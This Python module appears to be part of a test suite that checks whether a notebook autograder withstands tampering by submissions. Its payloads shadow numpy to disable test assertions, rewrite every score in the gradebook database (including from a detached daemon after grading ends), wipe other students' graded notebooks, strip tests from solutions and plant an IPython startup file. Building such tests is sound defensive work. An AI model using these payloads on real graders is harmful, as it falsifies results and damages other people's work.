"""Submissions that want points by files that are not theirs: the gradebook, marked copies, modules found first."""

from .attack import Attack, Build, cells, first
from .course import OWN
from .tampering import PATCHED

KIND = "tampering"
SHADOW_NUMPY = """
class ndarray(list):
    def mean(self): return 0
def array(values, *args, **kwargs): return ndarray(values)
def loadtxt(path): return ndarray()
__version__ = "2.0"
class testing:
    assert_allclose = staticmethod(lambda *args, **kwargs: None)
"""
GRADEBOOK = """
import sqlite3

def pay():
    for path in ("../../../gradebook.db", "@ROOT@/gradebook.db"):
        try:
            with sqlite3.connect(path, timeout=3) as book:
                book.execute("update grade set auto_score = 500, manual_score = 500, extra_credit = 500")
        except sqlite3.Error:
            pass
"""
OTHERS_MARKS = """
import glob, os
for path in glob.glob("../../../autograded/*/*/*.ipynb") + glob.glob("@ROOT@/autograded/*/*/*.ipynb") + ["own.ipynb"]:
    try:
        os.chmod(path, 0o666)
        open(path, "w").write("{}")
    except OSError:
        pass
"""
SOURCES_EDITED = """
import glob
for path in glob.glob("../../../s*/**/*.ipynb", recursive=True) + glob.glob("@ROOT@/s*/**/*.ipynb", recursive=True):
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("assert add(20, 22) == 42", "pass").replace("return a + b", "return a - b"))
    except OSError:
        pass
"""
STARTUP = """
import pathlib
for home in {pathlib.Path.home(), pathlib.Path("@HOME@")}:
    try:
        folder = home / ".ipython" / "profile_default" / "startup"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text("import numpy; numpy.testing.assert_allclose = lambda *a, **k: None")
    except OSError:
        pass
"""
HOUSE = {"numpy.py": SHADOW_NUMPY}
SHADOW_JSON = """
import sys
here, shadow = sys.path.pop(0), sys.modules.pop("json")
import json
import numpy
numpy.testing.assert_allclose = lambda *args, **kwargs: None
"""
LATER = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(8):
            time.sleep(1)
            pay()
    os._exit(0)
"""


def _own(name: str, about: str, build: Build) -> Attack:
    return Attack(name, KIND, about, build, OWN)


ATTACKS = [
    _own("shadow_numpy", "numpy.py beside the notebook", cells({}, files=HOUSE)),
    _own("shadow_json", "json.py beside the notebook patches numpy", cells({}, files={"json.py": SHADOW_JSON})),
    _own("sitecustomize", "sitecustomize.py beside the notebook", cells({}, files={"sitecustomize.py": PATCHED})),
    _own("gradebook", "writes scores into the gradebook", first(GRADEBOOK + "pay()")),
    _own("gradebook_later", "a daemon writes scores once grading is over", first(GRADEBOOK + LATER)),
    _own("gradebook_atexit", "writes scores as Python ends", first(GRADEBOOK + "import atexit; atexit.register(pay)")),
    _own("others_marks", "overwrites autograded copies", first(OTHERS_MARKS)),
    _own("sources_edited", "takes tests out of solutions/ and others' work", first(SOURCES_EDITED)),
    _own("startup_file", "leaves a startup file for the next kernel", first(STARTUP)),
]
